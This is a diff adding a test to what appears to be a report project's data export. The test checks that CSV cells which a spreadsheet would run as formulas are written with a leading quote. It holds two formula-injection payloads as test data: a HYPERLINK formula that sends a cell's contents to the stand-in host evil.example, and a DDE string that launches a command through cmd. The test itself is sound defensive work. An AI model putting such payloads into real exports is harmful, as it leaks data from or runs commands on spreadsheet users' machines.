@@ -51,3 +51,56 @@ def test_css_and_html_in_prose_are_code(tmp_path: Path, prose: str, code: str, c
         f"{SAMPLE}:33:{column}: error: text contains code ('{code}'); write plain text:"
         " HTML, CSS and scripts are printed as they are, never run [text.markup]"
     ]
+
+
+# -- 1. the open data's CSV cells are never formulas -----------------------------------------------
+
+HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Click for details")'
+SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+def _formula_project(tmp_path: Path) -> Path:
+    root = make_project(tmp_path)
+    path = root / SAMPLE
+    source = path.read_text(encoding="utf-8")
+    source = source.replace(
+        "      name: Sample Coalition\n",
+        '      name: \'=HYPERLINK("https://evil.example/?"&A1,"Click for details")\'\n',
+    )
+    source = source.replace(
+        "name: Sample Detention Center\n",
+        "name: Sample Detention Center\nother_names: ['@SUM(1+1)*cmd|'' /C calc''!A0', '-minus', '+plus', 'Plain']\n",
+    )
+    source = source.replace("  state: CA\n", "  state: CA\n  coordinates: {lat: 35.37, lon: -119.02}\n")
+    path.write_text(source, encoding="utf-8")
+    return root
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(tmp_path: Path) -> None:
+    import csv
+    import io
+    import json
+
+    from report.content.load import load_edition
+    from report.render.data import data_outputs
+
+    root = _formula_project(tmp_path)
+    assert _check(root) == []  # the values are text as good as any: only the CSV must not run them
+    edition, findings = load_edition(root)
+    assert edition is not None, findings
+    files = {o.path: o.data for o in data_outputs(edition)}
+
+    def rows(name: str) -> list[dict[str, str]]:
+        return list(csv.DictReader(io.StringIO(files[f"data/{name}.csv"].decode("utf-8"), newline="")))
+
+    assert [row["name"] for row in rows("campaign_organizations")] == ["'" + HYPERLINK]
+    (facility,) = rows("facilities")
+    assert facility["other_names"] == "'" + SUM + " | -minus | +plus | Plain"
+    assert (facility["name"], facility["longitude"]) == ("Sample Detention Center", "-119.02")  # a number stays one
+    assert [row["name"] for row in json.loads(files["data/campaign_organizations.json"])] == [HYPERLINK]
+    assert json.loads(files["data/facilities.json"])[0]["other_names"] == SUM + " | -minus | +plus | Plain"
+    package = json.loads(files["data/datapackage.json"])
+    assert (
+        "a text value that starts with =, +, -, @, a tab or a carriage return is written with a ' before it"
+        in (package["description"])
+    )
